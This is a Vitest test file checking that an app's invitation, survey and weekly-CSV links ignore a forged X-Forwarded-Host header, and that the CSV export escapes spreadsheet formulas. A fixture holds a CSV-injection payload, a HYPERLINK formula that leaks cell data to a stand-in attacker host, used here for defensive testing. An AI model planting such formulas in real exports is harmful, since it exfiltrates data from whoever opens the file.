/**
 * Links that leave the server (invitations, survey links, the weekly CSV's links) through their real code, with the
 * request headers as our server (lib/http/prepare-request.mjs) hands them to the app: a forged X-Forwarded-Host
 * never reaches one (item 14). The CSV export also escapes formulas in multi-line cells (item 15). The session, the
 * request headers of Next and the mail are stand-ins; the database is the test's.
 */
import Papa from 'papaparse';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { findOrganization } from '@/db/queries/organizations';
import { insertImprovement } from '@/db/queries/weekly';
import { weekOf } from '@/lib/domain/weeks';
import { markFrontDoor } from '@/lib/http/forwarded.mjs';
import { prepareRequest, serverSettings } from '@/lib/http/prepare-request.mjs';
import { surveyUrl } from '@/lib/survey/url';
import { useTestDatabase } from '@/tests/fixtures/database';
import { makeOrganization, type OrganizationFixture } from '@/tests/fixtures/organizations';

const state = vi.hoisted(() => ({ db: null as unknown, member: null as unknown, headers: new Headers() }));
vi.mock('@/db/client', async (importOriginal) => ({
  ...(await importOriginal<object>()),
  getDb: async () => state.db,
}));
vi.mock('@/lib/auth/session', () => ({ currentMember: async () => state.member }));
vi.mock('next/headers', () => ({ headers: async () => state.headers }));
// The invitation itself is the command's business (tested elsewhere); here only the link built around it counts.
vi.mock('@/lib/auth/run', () => ({
  runAsMember: async () => ({ ok: true, data: { token: 'invitation-token', email: 'new@example.test' } }),
}));
vi.mock('@/lib/mail', () => ({ sendInvitationMail: async () => false }));

const { GET: exportWeekly } = await import('@/app/api/weekly/export/route');
const { invite } = await import('@/app/(app)/settings/actions');
const { publicOrigin } = await import('@/lib/public-origin');

const db = useTestDatabase();
let own: OrganizationFixture;
const dangerous = 'Looked fine\n=HYPERLINK("https://attacker.test/?"&A1,"Open")';

beforeAll(async () => {
  markFrontDoor(); // as scripts/server.mjs does: the app runs behind it
  own = await makeOrganization(db, 'Links Org');
  const organization = await findOrganization(db, own.organizationId);
  state.db = db;
  state.member = { actor: own.executive.actor, organization };
  await insertImprovement(db, own.organizationId, {
    departmentId: own.departmentA,
    weekStart: weekOf(new Date(), organization!.timeZone, organization!.weekStartsOn),
    late: false,
    createdBy: own.executive.userId,
    title: '@SUM(1+1)',
    process: '',
    before: dangerous,
    after: '',
    metric: null,
    businessMetric: '',
    direction: null,
    source: null,
    sourcePlanItemId: undefined,
    sourceNote: '',
    ownerUserId: undefined,
    effectiveDate: weekOf(new Date(), organization!.timeZone, organization!.weekStartsOn),
  });
});

/** A request as it reaches the app from this peer, after our server prepared it. */
function arriving(headers: Record<string, string>, peer: string, trustedProxies = '') {
  const req = { headers: { ...headers }, socket: { remoteAddress: peer } };
  prepareRequest(req, serverSettings({ TRUSTED_PROXIES: trustedProxies }));
  state.headers = new Headers(req.headers as Record<string, string>);
}

async function linksOf() {
  const csv = await (await exportWeekly()).text();
  const [header, ...rows] = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
  const column = (name: string) => header!.indexOf(name);
  const invitation = await invite({});
  if (!invitation.ok) throw new Error('the invitation stand-in always succeeds');
  return {
    csvLinks: rows.map((row) => row[column('link')]),
    csvRows: rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]]))),
    invitation: invitation.data.link,
    survey: surveyUrl(await publicOrigin(), 'survey-token'),
  };
}

const forged = { host: 'cx.test:3000', 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https' };

describe('item 14: a forged X-Forwarded-Host never reaches an invitation, a survey link or the weekly CSV', () => {
  it('from a client calling the server directly, every link uses the Host it called', async () => {
    arriving(forged, '198.51.100.7');
    const links = await linksOf();
    expect(links.invitation).toBe('http://cx.test:3000/invite/invitation-token');
    expect(links.survey).toBe('http://cx.test:3000/s/survey-token');
    expect(links.csvLinks).toHaveLength(1);
    expect(links.csvLinks[0]).toMatch(/^http:\/\/cx\.test:3000\/weekly\/\d{4}-\d{2}-\d{2}$/);
    expect(JSON.stringify(links)).not.toContain('evil.example');
  });

  it('behind a trusted proxy, links use the host and scheme it reports', async () => {
    arriving({ ...forged, 'x-forwarded-host': 'cx.example.com' }, '10.0.0.2', '10.0.0.0/8');
    const links = await linksOf();
    expect(links.invitation).toBe('https://cx.example.com/invite/invitation-token');
    expect(links.survey).toBe('https://cx.example.com/s/survey-token');
    expect(links.csvLinks[0]).toMatch(/^https:\/\/cx\.example\.com\/weekly\//);
  });

  it('with APP_URL set, links use it whatever the request says', async () => {
    vi.stubEnv('APP_URL', 'https://touchpoint.example.org');
    vi.resetModules(); // env() reads the environment once per module instance
    try {
      const { GET } = await import('@/app/api/weekly/export/route');
      const { invite: inviteAgain } = await import('@/app/(app)/settings/actions');
      arriving(forged, '10.0.0.2', '10.0.0.0/8');
      const csv = await (await GET()).text();
      expect(csv).toContain('https://touchpoint.example.org/weekly/');
      expect(csv).not.toContain('evil.example');
      const invitation = await inviteAgain({});
      expect(invitation.ok && invitation.data.link).toBe('https://touchpoint.example.org/invite/invitation-token');
    } finally {
      vi.unstubAllEnvs();
    }
  });
});

describe('item 15: the weekly CSV escapes formulas in every cell, multi-line cells too', () => {
  it('writes a cell whose second line is a formula, and one starting with @, as text', async () => {
    arriving({ host: 'cx.test' }, '198.51.100.7');
    const { csvRows } = await linksOf();
    expect(csvRows[0]).toMatchObject({ title: "'@SUM(1+1)", before: `'${dangerous}` });
  });
});
